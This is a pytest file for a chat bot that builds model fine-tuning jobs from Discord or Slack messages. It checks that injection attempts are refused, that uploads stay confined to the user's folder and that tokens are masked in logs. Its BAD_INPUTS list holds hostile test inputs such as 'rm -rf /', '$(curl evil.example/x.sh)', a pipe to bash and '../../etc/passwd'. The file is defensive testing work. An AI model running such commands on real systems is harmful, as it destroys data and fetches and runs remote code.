"""Chat messages → typed configs through the CLI's declarations; injection attempts refused in one line with
nothing run or written (no job row, no job folder, no model built). Pure: no training."""
from __future__ import annotations

import pytest

from bot.config import BotConfig, Limits, load
from bot.safety import Refused
from bot.service import BotService, Ctx
from jobs import JobStore
from tests.conftest import REPO

# (message, a phrase the one-line reply must carry)
BAD_INPUTS = [
    (".finetune tiny-lora self-cognition; rm -rf /", "';' is not allowed"),
    (".finetune tiny-lora $(curl evil.example/x.sh)", "'$(' is not allowed"),
    (".finetune tiny-lora `id`", "'`' is not allowed"),
    (".finetune tiny-lora self-cognition max_steps=5 && curl x | bash", "'|' is not allowed"),
    (".finetune tiny-lora self-cognition --output_dir /etc", "options are given as key=value"),
    (".finetune tiny-lora self-cognition output_dir=/etc", "output_dir cannot be set from chat"),
    (".finetune tiny-lora self-cognition deepspeed=zero3", "deepspeed cannot be set from chat"),
    (".finetune tiny-lora ../../etc/passwd", "no paths, no '..'"),
    (".finetune tiny-lora upload:../secret.jsonl", "no paths, no '..'"),
    (".finetune tiny-lora https://evil.example/data.jsonl", "URLs are not fetched"),
    (".finetune tiny-lora self-cognition frobnicate=1", "unknown or not allowed flag 'frobnicate'"),
    (".finetune tiny-lora self-cognition max_steps=abc", "--max_steps expects an integer"),
    (".finetune tiny-lora self-cognition model_name=../../x", "values may not hold paths"),
    (".finetune gpt-9-lora self-cognition", "unknown model 'gpt-9'"),
    (".finetune tiny-rm self-cognition", "write <model>-<method>"),
    (".finetune tiny-lora no-such-set", "unknown dataset 'no-such-set'"),
    (".recipe save ../x 1", "no paths, no '..'"),
    (".rm -rf /", "unknown command .rm"),
]


@pytest.fixture
def service(tmp_path) -> BotService:
    return BotService(BotConfig(), JobStore(tmp_path / "home"))


@pytest.mark.parametrize("text,phrase", BAD_INPUTS, ids=[t for t, _ in BAD_INPUTS])
def test_bad_input_refused_in_one_line_nothing_run_or_written(service, text, phrase):
    outs = service.handle(Ctx("mallory"), text)
    assert len(outs) == 1 and "\n" not in outs[0].text, outs
    assert phrase in outs[0].text, outs[0].text
    root = service.store.root
    assert service.store.list() == []                                   # no job row
    assert not (root / "jobs").exists() and not (root / "models").exists()   # no job folder, no model built
    decisions = [r for r in service.audit.read() if r["kind"] == "decision"]
    assert decisions[-1]["decision"] == "refused" and decisions[-1]["user"] == "mallory"


def test_finetune_parses_through_the_cli_declarations(tmp_path):
    from bot.finetune import build

    ft = build(["qwen-7b-lora", "wiki_zh", "max_steps=100", "model_name=小锤,Yichui", "learning_rate=1e-4"],
               tmp_path / "tiny", tmp_path / "up")
    assert ft.command == "sft" and ft.model_key == "qwen2.5-7b-instruct"
    cfg = ft.config
    assert cfg.model.model == "Qwen/Qwen2.5-7B-Instruct" and cfg.data.dataset == ["wikipedia-zh"]
    assert cfg.train.max_steps == 100 and isinstance(cfg.train.max_steps, int)
    assert cfg.train.learning_rate == pytest.approx(1e-4) and cfg.tuner.train_type == "lora"
    assert ft.recipe == {"model": "qwen-7b-lora", "dataset": "wiki_zh",
                         "set": {"max_steps": 100, "model_name": ["小锤", "Yichui"], "learning_rate": 1e-4}}
    dpo = build(["tiny-dpo", "tiny-preferences"], tmp_path / "tiny", tmp_path / "up")
    assert dpo.command == "rlhf" and dpo.values["rlhf_type"] == "dpo" and dpo.values["model"] == str(tmp_path / "tiny")


def test_upload_file_inside_the_users_folder_only(tmp_path):
    from bot.finetune import resolve_dataset

    up = tmp_path / "up"
    up.mkdir()
    (up / "mine.jsonl").write_text("{}\n")
    (tmp_path / "secret.jsonl").write_text("{}\n")
    assert resolve_dataset("upload:mine.jsonl", up) == str((up / "mine.jsonl").resolve())
    with pytest.raises(Refused, match="no such file in your upload folder"):
        resolve_dataset("upload:other.jsonl", up)
    (up / "link.jsonl").symlink_to(tmp_path / "secret.jsonl")           # a link out of the folder
    with pytest.raises(Refused, match="no such file in your upload folder"):
        resolve_dataset("upload:link.jsonl", up)


def test_sandbox_lists_and_layers(tmp_path):
    cfg_file = tmp_path / "bot.yaml"
    cfg_file.write_text("admins: [root]\nlimits: {models: [tiny], max_concurrent: 1}\n"
                        "channels: {ops: {max_concurrent: 3}}\nusers: {bob: {gpu_hours_per_day: 2}}\n")
    cfg = load(cfg_file)
    assert cfg.limits_for("bob", "ops") == Limits(models=("tiny",), max_concurrent=3, gpu_hours_per_day=2)
    svc = BotService(cfg, JobStore(tmp_path / "home"))
    out = svc.handle(Ctx("bob"), ".finetune qwen-7b-lora wiki_zh")
    assert out[0].text.startswith("refused: model 'qwen-7b' is not allowed here (allowed: tiny)")
    bad = tmp_path / "bad.yaml"
    bad.write_text("limits: {max_gpus: 3}\n")
    with pytest.raises(Refused, match="unknown key 'max_gpus'"):
        load(bad)


def test_tokens_never_reach_the_audit_log(service, monkeypatch):
    monkeypatch.setenv("DISCORD_TOKEN", "MTIzNDU2Nzg5.secret-token-value")
    service.handle(Ctx("eve"), ".finetune tiny-lora self-cognition frobnicate=MTIzNDU2Nzg5.secret-token-value")
    text = service.audit.path.read_text()
    assert "secret-token-value" not in text and "***" in text


def test_example_config_loads():
    from pathlib import Path

    import bot

    cfg = load(Path(bot.__file__).parent / "bot.example.yaml")
    assert cfg.limits.models[0] == "tiny" and cfg.limits_for("bob", "gpu-lab").max_concurrent == 3
    assert cfg.limits_for("bob").gpu_hours_per_day == 2 and cfg.admins == ("alice",)


def test_bad_progress_interval_of_the_store_is_one_line(tmp_path):
    bad = tmp_path / "bot.yaml"
    bad.write_text("store: {kind: s3, bucket: b, progress_every_s: soon}\n")
    with pytest.raises(Refused, match=r"bot.yaml: store.progress_every_s must be a number of seconds > 0 "
                                      r"\(got 'soon'\)"):
        load(bad)


def test_plan_and_shared_recipes(service):
    from jobs.meta import update_meta

    (plan,) = service.handle(Ctx("ann"), ".plan qwen-7b-lora wiki_zh")
    assert plan.text.startswith("plan for qwen-7b-lora on wiki_zh: swift sft --model Qwen/Qwen2.5-7B-Instruct")
    assert "predicted peak" in plan.text and "cloud: L4" in plan.text
    store = service.store
    job_id = store.table.insert("ann", "sft", ["sft"], "done")                 # a finished chat job of ann's
    (store.root / "jobs" / "1").mkdir(parents=True)
    store.table.update(job_id, job_dir=str(store.root / "jobs" / "1"))
    update_meta(store.root / "jobs" / "1", recipe={"model": "qwen-7b-lora", "dataset": "wiki_zh",
                                                   "set": {"max_steps": 100}})
    (saved,) = service.handle(Ctx("ann", channel="lab"), ".recipe save wiki7 1")
    assert saved.text == "recipe 'wiki7' saved: qwen-7b-lora wiki_zh"
    (listed,) = service.handle(Ctx("ben", channel="lab"), ".recipes")
    assert listed.text == "wiki7: qwen-7b-lora wiki_zh max_steps=100 (by ann)"
    assert service.handle(Ctx("ben", channel="other"), ".recipes")[0].text == "no recipes in this channel yet"
    (used,) = service.handle(Ctx("ben", channel="lab"), ".recipe use wiki7 max_steps=5")
    # the recipe goes through the same checks and the job core's admission: 7B does not fit this machine
    assert used.text.startswith("job 2 refused: ") and "GiB" in used.text, used.text
    assert store.get(2).argv[store.get(2).argv.index("--max_steps") + 1] == "5"
    bad = service.handle(Ctx("ben", channel="lab"), ".recipe use wiki7 output_dir=/etc")
    assert bad[0].text.startswith("refused: output_dir cannot be set from chat")


def test_swift_bot_needs_tokens_from_the_environment():
    from tests.conftest import swift

    for platform, var in (("discord", "DISCORD_TOKEN"), ("slack", "SLACK_BOT_TOKEN")):
        proc = swift("bot", "--platform", platform, env={var: "", "PYTHONPATH": str(REPO)})
        assert proc.returncode == 2 and proc.stderr.count("\n") == 1, proc.stderr
        assert proc.stderr.startswith(f"error: swift bot --platform {platform}: set {var}") and "Traceback" not in \
            proc.stderr
    bad = swift("bot", "--config", "/nonexistent/bot.yaml", env={"PYTHONPATH": str(REPO)})
    assert bad.returncode == 2 and bad.stderr == "error: --config: no such file: /nonexistent/bot.yaml\n"


@pytest.mark.parametrize("prompt", ["--adapters /etc/passwd", "who are you?", "-h", "a=b --model x"])
def test_chat_prompt_is_one_argv_element_never_a_flag(prompt):
    from jobs.answers import infer_argv
    from swift_cli.commands.infer import InferConfig
    from swift_cli.options.parse import parse_command

    argv = infer_argv(["--adapters", "/ckpt"], prompt)
    _, cfg = parse_command(InferConfig, argv[1:])
    assert cfg.infer.query == prompt and cfg.model.adapters == ["/ckpt"]


def test_flag_like_values_refused(service):
    (out,) = service.handle(Ctx("m"), ".finetune tiny-lora self-cognition system=--use_hf")
    assert out.text == "refused: system='--use_hf': a value may not look like a flag; nothing was run"
    assert service.store.list() == []
